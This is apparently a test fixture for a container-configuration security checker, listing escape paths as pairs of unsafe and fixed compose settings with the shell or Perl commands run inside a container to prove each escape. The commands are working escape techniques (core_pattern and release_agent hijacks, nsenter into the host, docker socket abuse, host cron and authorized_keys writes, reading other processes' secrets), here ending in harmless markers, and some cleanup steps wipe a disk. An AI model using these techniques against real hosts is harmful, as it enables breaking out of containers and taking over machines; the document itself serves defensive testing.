import { readFileSync } from 'node:fs';
import type { HostAssumptions } from '../../src/model/containers/host-assumptions.ts';

/** How an attacker in a container goes a way that we report, with something harmless at its end. */
export interface Walk {
  /** The rule. */
  readonly path: string;
  /** The options of a service that lead to the host. */
  readonly open: string;
  /** The same, with one setting mended. */
  readonly mended: string;
  /** What is mended, as the table of the documentation says it. */
  readonly by: string;
  /** Run on the host before, with the secret in `$TOKEN`. */
  readonly before?: string;
  /** Run in the container. The helper of the host is at `$HELPER`. */
  readonly attack: readonly [string, ...string[]];
  /** Run on the host after: it ends with 0 if the attacker got there. The output of the attack has the secret, if there is none. */
  readonly proof?: string;
  /** Run on the host in the end. */
  readonly after?: string;
  /** What the host has to have, as a test of the shell, with the clause that says so after `where`. */
  readonly needs?: readonly [test: string, where: string];
  /** More than the options of the service: other services of the file. */
  readonly others?: string;
  /** What the configuration has to say of the host for the rule to apply. */
  readonly host?: Partial<HostAssumptions>;
}

const sh = (script: string): Walk['attack'] => ['sh', '-c', script];
const perl = (name: string): Walk['attack'] => [
  'perl',
  '-e',
  readFileSync(new URL(`attacks/${name}.pl`, import.meta.url), 'utf8'),
];

const MARKER = 'grep -q "$TOKEN" "$MARKER"';
const UNCONFINED = 'security_opt: [apparmor=unconfined]\n';
const RESTORE_CORE = 'echo "$CORE_PATTERN" >/proc/sys/kernel/core_pattern';
const CRASH = "sh -c 'kill -SEGV $$'; sleep 0.5";

/** A service of the host that answers everyone with the secret, and one that says it to itself. Both end on their own. */
const LISTENER =
  'my $all = IO::Socket::INET->new(Listen => 5, LocalAddr => "127.0.0.1:5432", ReuseAddr => 1); alarm 20; ' +
  'while (my $one = $all->accept) { print $one "$ENV{TOKEN}\\n" }';
const SENDER =
  'my $out = IO::Socket::INET->new(Proto => "udp", PeerAddr => "127.0.0.1:5433"); ' +
  'for (1 .. 60) { $out->send($ENV{TOKEN}); select undef, undef, undef, 0.1 }';

export const WALKS: readonly Walk[] = [
  {
    path: 'escape-path-socket',
    open: 'volumes: ["/var/run/docker.sock:/var/run/docker.sock:ro"]\n',
    mended: 'volumes: ["/var/run/docker.sock:/var/run/docker.sock:ro"]\nuser: "10001"\n',
    by: 'a user other than root',
    attack: sh('docker run --rm --network none -v /srv/walk:/m small:1 sh -c "cat /m/secret >/m/marker"'),
    before: 'echo "$TOKEN" >/srv/walk/secret',
    proof: 'grep -q "$TOKEN" /srv/walk/marker',
  },
  {
    path: 'escape-path-etc-cron',
    open: 'volumes: ["/etc:/host/etc"]\n',
    mended: 'volumes: ["/etc:/host/etc:ro"]\n',
    by: '`:ro`',
    attack: sh('echo "# $SAID" >/host/etc/cron.d/walk'),
    proof: 'grep -q "$SAID" /etc/cron.d/walk',
    after: 'rm -f /etc/cron.d/walk',
  },
  {
    path: 'escape-path-home-folder',
    open: 'volumes: ["/home:/host/home"]\n',
    mended: 'volumes: ["/home:/host/home:ro"]\n',
    by: '`:ro`',
    attack: sh('echo "# $SAID" >/host/home/dev/.ssh/authorized_keys'),
    proof: 'grep -q "$SAID" /home/dev/.ssh/authorized_keys',
    after: 'rm -f /home/dev/.ssh/authorized_keys',
  },
  {
    path: 'escape-path-docker-data',
    open: 'volumes: ["/var/lib/docker:/docker"]\n',
    mended: 'volumes: ["/var/lib/docker:/docker:ro"]\n',
    by: '`:ro`',
    attack: sh('for file in /docker/overlay2/*/diff/bin/trusted; do echo "echo $SAID" >>"$file"; done'),
    proof: 'docker run --rm --network none small:1 /bin/trusted | grep -q "$SAID"',
    after: 'sed -i 2q /var/lib/docker/overlay2/*/diff/bin/trusted',
  },
  {
    path: 'escape-path-agent-socket',
    open: 'volumes: ["/srv/walk/ssh-agent.sock:/agent"]\n',
    mended: 'volumes: ["/srv/walk/ssh-agent.sock:/agent"]\nuser: "10001"\n',
    by: 'a user other than root',
    before:
      'ssh-agent -a /srv/walk/ssh-agent.sock >/srv/walk/agent && ssh-keygen -q -N "" -C "$TOKEN" -f /srv/walk/key && ' +
      'SSH_AUTH_SOCK=/srv/walk/ssh-agent.sock ssh-add -q /srv/walk/key',
    attack: sh('SSH_AUTH_SOCK=/agent ssh-add -l'),
    after: '. /srv/walk/agent; kill "$SSH_AGENT_PID"; rm -f /srv/walk/*',
  },
  {
    path: 'escape-path-pid-nsenter',
    open: `${UNCONFINED}pid: host\ncap_add: [SYS_ADMIN, SYS_PTRACE]\n`,
    mended: `${UNCONFINED}pid: host\ncap_add: [SYS_ADMIN, SYS_PTRACE]\ncap_drop: [SYS_CHROOT]\n`,
    by: '`cap_drop: [SYS_CHROOT]`',
    attack: sh('nsenter -t 1 -m /bin/sh -c "echo $SAID >/srv/walk/marker"'),
    proof: 'grep -q "$SAID" /srv/walk/marker',
  },
  {
    path: 'escape-path-pid-ptrace',
    open: `${UNCONFINED}pid: host\ncap_add: [SYS_PTRACE]\n`,
    mended: `${UNCONFINED}pid: host\n`,
    by: 'no SYS_PTRACE',
    before: 'setsid sleep 7771 >/dev/null 2>&1 </dev/null &',
    attack: perl('pid-ptrace'),
    proof: 'test -e /srv/walk/marker',
    after: 'pkill -f "^sleep 7771" || true',
    needs: [
      'test "$(uname -m)" = x86_64',
      'the machine has x86-64, because the code for the other process is written for it',
    ],
  },
  {
    path: 'escape-path-pid-root-peek',
    open: 'pid: host\n',
    mended: 'pid: host\ncap_drop: [ALL]\n',
    by: '`cap_drop: [ALL]`',
    before: 'docker run -d --rm --name other --network none -e SECRET="$TOKEN" small:1 sleep 60',
    attack: sh('cat /proc/[0-9]*/environ 2>/dev/null | tr "\\0" "\\n" | grep ^SECRET='),
    after: 'docker rm -f other',
  },
  {
    path: 'escape-path-dac-read-search',
    open: 'cap_add: [DAC_READ_SEARCH]\n',
    mended: 'cap_drop: [ALL]\n',
    by: 'no DAC_READ_SEARCH',
    attack: perl('dac-read-search'),
    needs: [
      'test "$(stat -f -c %T /var/lib/docker)" = ext2/ext3 && test "$(uname -m)" = x86_64 && ' +
        'test "$(stat -c %m "${HELPER%/*}")" = /',
      'the data of the engine is on the root disk, with ext4, of a machine with x86-64',
    ],
  },
  {
    path: 'escape-path-device-mknod',
    open: 'device_cgroup_rules: ["b 7:* rwm"]\n',
    mended: 'device_cgroup_rules: ["b 7:* rwm"]\ncap_drop: [ALL]\n',
    by: '`cap_drop: [ALL]`',
    before: 'printf %s "$TOKEN" | dd of=/dev/sda conv=notrunc status=none && sync',
    attack: sh('mknod /tmp/disk b 7 "$MINOR" && dd if=/tmp/disk bs=64 count=1 2>/dev/null'),
    after: 'mke2fs -q -F /dev/sda',
  },
  {
    path: 'escape-path-sys-admin-device',
    open: `${UNCONFINED}devices: [/dev/sda]\ncap_add: [SYS_ADMIN]\n`,
    mended: `${UNCONFINED}devices: [/dev/sda]\n`,
    by: 'no SYS_ADMIN',
    attack: sh('mount -t ext2 /dev/sda /mnt && echo "$SAID" >/mnt/marker && umount /mnt'),
    proof: 'mount -t ext2 /dev/sda /mnt && grep -q "$SAID" /mnt/marker',
    after: 'umount /mnt; mke2fs -q -F /dev/sda',
  },
  {
    path: 'escape-path-privileged-device',
    open: 'privileged: true\n',
    mended: 'privileged: false\n',
    by: '`privileged: false`',
    attack: sh('mount -t ext2 /dev/sda /mnt && echo "$SAID" >/mnt/marker && umount /mnt'),
    proof: 'mount -t ext2 /dev/sda /mnt && grep -q "$SAID" /mnt/marker',
    after: 'umount /mnt; mke2fs -q -F /dev/sda',
  },
  {
    path: 'escape-path-core-pattern',
    open: 'volumes: ["/proc:/host/proc"]\n',
    mended: 'volumes: ["/proc:/host/proc:ro"]\n',
    by: '`:ro`',
    attack: sh(`echo "|$HELPER" >/host/proc/sys/kernel/core_pattern; ${CRASH}`),
    proof: MARKER,
    after: RESTORE_CORE,
  },
  {
    path: 'escape-path-sys-admin-mount',
    open: `${UNCONFINED}cap_add: [SYS_ADMIN]\n`,
    mended: UNCONFINED,
    by: 'no SYS_ADMIN',
    attack: sh(
      'mkdir /tmp/groups && mount -t cgroup -o freezer freezer /tmp/groups && mkdir -p /tmp/groups/walk && ' +
        'echo "$HELPER" >/tmp/groups/release_agent && echo 1 >/tmp/groups/walk/notify_on_release && ' +
        "sh -c 'echo $$ >/tmp/groups/walk/cgroup.procs'; sleep 0.5",
    ),
    proof: MARKER,
    after: 'echo >/sys/fs/cgroup/freezer/release_agent; rmdir /sys/fs/cgroup/freezer/walk',
    needs: ['test -e /sys/fs/cgroup/freezer/release_agent', 'the host has cgroup v1'],
  },
  {
    path: 'escape-path-sys-admin-proc',
    host: { cgroup: 'v2' },
    open: `${UNCONFINED}cap_add: [SYS_ADMIN]\n`,
    mended: UNCONFINED,
    by: 'no SYS_ADMIN',
    attack: sh(
      `mkdir /tmp/proc && mount -t proc proc /tmp/proc && echo "|$HELPER" >/tmp/proc/sys/kernel/core_pattern; ${CRASH}`,
    ),
    proof: MARKER,
    after: RESTORE_CORE,
  },
  {
    path: 'escape-path-shared-propagation',
    open: `${UNCONFINED}cap_add: [SYS_ADMIN]\nvolumes: ["/srv/shared:/mnt:rshared"]\n`,
    mended: `${UNCONFINED}cap_add: [SYS_ADMIN]\nvolumes: ["/srv/shared:/mnt:rslave"]\n`,
    by: '`rslave`',
    attack: sh('mkdir -p /mnt/below && mount -t tmpfs tmpfs /mnt/below && echo "$SAID" >/mnt/below/marker'),
    proof: 'grep -q "$SAID" /srv/shared/below/marker',
    after: 'umount /srv/shared/below || true; rmdir /srv/shared/below',
  },
  {
    path: 'escape-path-userns-unconfined',
    open: 'security_opt: [apparmor=unconfined, seccomp=unconfined]\nuser: "10001"\n',
    mended: 'security_opt: [apparmor=unconfined]\nuser: "10001"\n',
    by: 'the seccomp profile of the engine',
    attack: sh('unshare -U -r -m sh -c "mount -t tmpfs tmpfs /mnt && echo $SAID"'),
  },
  {
    path: 'escape-path-uts-admin',
    open: 'uts: host\ncap_add: [SYS_ADMIN]\n',
    mended: 'uts: host\n',
    by: 'no SYS_ADMIN',
    attack: sh('hostname "$SAID"'),
    proof: 'test "$(hostname)" = "$SAID"',
    after: 'hostname small-host',
  },
  {
    path: 'escape-path-net-host-admin',
    open: 'network_mode: host\ncap_add: [NET_ADMIN]\n',
    mended: 'network_mode: host\n',
    by: 'no NET_ADMIN',
    attack: sh('ip address add 192.0.2.66/32 dev lo'),
    proof: 'ip address show dev lo | grep -q 192.0.2.66',
    after: 'ip address delete 192.0.2.66/32 dev lo',
  },
  {
    path: 'escape-path-net-host-loopback',
    open: 'network_mode: host\n',
    mended: 'network_mode: none\n',
    by: 'a network of its own',
    others:
      '  db:\n    image: small:1\n    ports: ["127.0.0.1:5432:5432"]\nnetworks:\n  default: {name: none, external: true}\n',
    before: `setsid perl -MIO::Socket::INET -e '${LISTENER}' >/dev/null 2>&1 & sleep 0.5`,
    attack: sh('timeout 2 nc 127.0.0.1 5432 </dev/null'),
    after: 'pkill -f Listen || true',
  },
  {
    path: 'escape-path-net-host-sniff',
    open: 'network_mode: host\n',
    mended: 'network_mode: host\ncap_drop: [ALL]\n',
    by: '`cap_drop: [ALL]`',
    before: `setsid perl -MIO::Socket::INET -e '${SENDER}' >/dev/null 2>&1 &`,
    attack: perl('net-host-sniff'),
    after: 'pkill -f PeerAddr || true',
  },
  {
    path: 'escape-path-ipc-host',
    open: 'ipc: host\n',
    mended: 'ipc: host\nuser: "10001"\n',
    by: 'a user other than root',
    before: "perl -e 'my $id = shmget(7771, 64, 01600); shmwrite($id, $ENV{TOKEN}, 0, 64)'",
    attack: perl('ipc-host'),
    after: 'ipcrm -M 7771',
  },
  {
    path: 'escape-path-bpf-perf',
    open: 'cap_add: [BPF, PERFMON]\n',
    mended: 'cap_add: [BPF]\n',
    by: 'no PERFMON',
    attack: perl('bpf-perf'),
    needs: [
      'test "$(uname -m)" = x86_64',
      'the machine has x86-64, because the numbers of system calls are those of it',
    ],
  },
  {
    path: 'escape-path-sys-module',
    open: 'cap_add: [SYS_MODULE]\n',
    mended: 'cap_drop: [ALL]\n',
    by: 'no SYS_MODULE',
    attack: perl('sys-module'),
    needs: ['test -e /proc/modules', 'the kernel loads modules'],
  },
  {
    path: 'escape-path-sys-uevent',
    open: 'volumes: ["/sys:/host/sys"]\n',
    mended: 'volumes: ["/sys:/host/sys:ro"]\n',
    by: '`:ro`',
    attack: sh(
      'echo "$HELPER" >/host/sys/kernel/uevent_helper && echo add >/host/sys/class/mem/null/uevent; sleep 0.5',
    ),
    proof: MARKER,
    after: 'echo >/sys/kernel/uevent_helper',
    needs: ['test -e /sys/kernel/uevent_helper', 'the kernel was built with CONFIG_UEVENT_HELPER'],
  },
  {
    path: 'escape-path-rawio-mem',
    open: 'devices: [/dev/mem]\ncap_add: [SYS_RAWIO]\n',
    mended: 'devices: [/dev/mem]\n',
    by: 'no SYS_RAWIO',
    attack: sh('dd if=/dev/mem bs=1 count=1 2>/dev/null | grep -q . ; test $? -le 1 && echo "$SAID"'),
    needs: ['test -c /dev/mem', 'the kernel was built with CONFIG_DEVMEM'],
  },
  {
    path: 'dos-unbounded-root',
    open: 'restart: always\n',
    mended: 'restart: always\nmem_limit: 512m\npids_limit: 100\n',
    by: 'limits',
    attack: sh(
      'for i in $(seq 200); do sleep 5 & done 2>/dev/null; test "$(ps | grep -c "[s]leep 5")" -ge 200 && echo "$SAID"',
    ),
  },
];

/** Why the other paths are not walked. */
export const NOT_WALKED: Readonly<Record<string, string>> = {
  'escape-path-dind-tcp': 'containers with a network in common need a bridge and a packet filter on the host',
  'escape-path-kubelet-log': 'the host has no kubelet',
  'escape-path-lxcfs': 'the host has no LXCFS',
  'escape-path-net-host-shim': 'containerd closed the sockets in 1.3.9 and 1.4.3, and the host has a later one',
  'escape-path-pid-boot': 'it would switch the host off',
  'escape-path-system-bus': 'the host has no systemd that starts programs',
  'escape-path-systemd-private': 'the host has no systemd',
  'persist-restart-privileged': 'it starts where another path ends; only a restart of the engine would show it',
};
